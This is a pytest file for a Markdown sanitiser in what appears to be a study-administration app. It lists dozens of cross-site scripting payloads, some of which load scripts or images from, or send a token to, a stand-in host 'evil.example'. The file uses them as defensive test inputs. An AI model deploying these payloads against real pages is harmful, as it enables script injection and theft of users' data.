"""Markdown of a study admin: what it may say, and that nothing in it runs in a reader's browser."""

import re
from html.parser import HTMLParser

import pytest

from readerstudy.core.markdown import LINK_SCHEMES, TAGS, sanitised, to_html

# Ways to bring a script into a page: kinds from the OWASP cheat sheet on filter evasion, written anew for Markdown.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=token><button>Go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style=position:fixed;inset:0 onclick=alert(1)>covered</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a name=x id=main class=go>x</a>",
    "<div\nonmouseover=alert(1)\n>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://here/1)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](../../desk/)",
    "[x](#main)",
    "[x](?a=b)",
    '[x](https://good.example "onmouseover=alert(1)")',
    '[x](https://good.example/"onmouseover="alert(1))',
    "[x](https://good.example/'><script>alert(1)</script>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: https://good.example "\' onfocus=alert(1) autofocus"',
    "<javascript:alert(1)>",
    "<https://good.example/<script>alert(1)</script>>",
    "![x](https://evil.example/seen.png)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    "[![x](https://evil.example/seen.png)](https://good.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "| a |\n|:-:|\n| b |",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ secret }} {% load static %}",
)


class Reader(HTMLParser):
    """What a browser would see: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


class TestSafety:
    @pytest.mark.parametrize("guard", [to_html, sanitised])
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_nothing_but_named_tags_attributes_and_links_comes_through(self, attack, guard):
        """Also where the parser would let HTML through: the sanitiser does not rely on it."""
        for tag, attributes in Reader(guard(attack)).elements:
            assert tag in TAGS
            allowed = {"a": {"href", "target", "rel"}, "ol": {"start"}}.get(tag, set())
            assert attributes.keys() <= allowed, (tag, attributes)
            if "href" in attributes:
                assert str(attributes["href"]).partition(":")[0] in LINK_SCHEMES
            if tag == "a":
                assert (attributes["rel"], attributes["target"]) == ("noopener", "_blank")

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_also_in_the_middle_of_a_text(self, attack):
        html = to_html(f"Before\n\n{attack}\n\n## After")
        assert "<p>Before</p>" in html
        assert {tag for tag, _ in Reader(html).elements} <= TAGS

    def test_tags_are_shown_as_they_were_written(self):
        assert Reader(to_html("a <b>bold</b> claim")).text == "a <b>bold</b> claim"

    def test_picture_is_never_fetched(self):
        assert "<img" not in to_html("![a scan](https://example.org/scan.png)")

    def test_long_and_deep_texts_end(self):
        assert to_html("> " * 5000 + "x").count("<blockquote>") < 200
        assert "<p>" in to_html("[" * 20_000)
        assert "<p>" in to_html("*a **b " * 2500)


class TestText:
    def test_everyday_markdown(self):
        text = "A **bold** and *slanted* word, ~~gone~~, `code`.\n\n- one\n- two\n\n3. three\n\n> said\n\n---"
        html = to_html(text)
        for part in (
            "<strong>bold</strong>",
            "<em>slanted</em>",
            "<s>gone</s>",
            "<code>code</code>",
            "<li>two</li>",
            '<ol start="3">',
            "<blockquote>",
            "<hr>",
        ):
            assert part in html

    def test_table(self):
        html = to_html("| Frame | Time |\n|---|---|\n| T1 pre | 0 s |")
        assert re.sub(r"\s", "", html) == (
            "<table><thead><tr><th>Frame</th><th>Time</th></tr></thead><tbody><tr><td>T1pre</td><td>0s</td></tr></tbody></table>"
        )

    @pytest.mark.parametrize(
        "address", ["https://example.org/a?b=c&d=e", "http://example.org", "mailto:study@example.org"]
    )
    def test_links(self, address):
        ((_, _), (tag, attributes)) = Reader(to_html(f"[here]({address})")).elements
        assert (tag, attributes) == ("a", {"href": address, "target": "_blank", "rel": "noopener"})

    @pytest.mark.parametrize(
        ("written", "shown"),
        [
            ("# A\n\n## B\n\n### C\n\n# D", ["h2", "h3", "h4", "h2"]),
            (
                "### A\n\n##### B\n\n## C",
                ["h2", "h3", "h3"],
            ),  # the page's h1 stands above: no level is left out
            ("# A\n\n## B\n\n### C\n\n#### D\n\n##### E\n\n###### F", ["h2", "h3", "h4", "h5", "h6", "h6"]),
        ],
    )
    def test_headings_go_down_from_h2_without_a_gap(self, written, shown):
        assert [tag for tag, _ in Reader(to_html(written)).elements] == shown

    def test_empty_text(self):
        assert to_html("  \n ") == ""
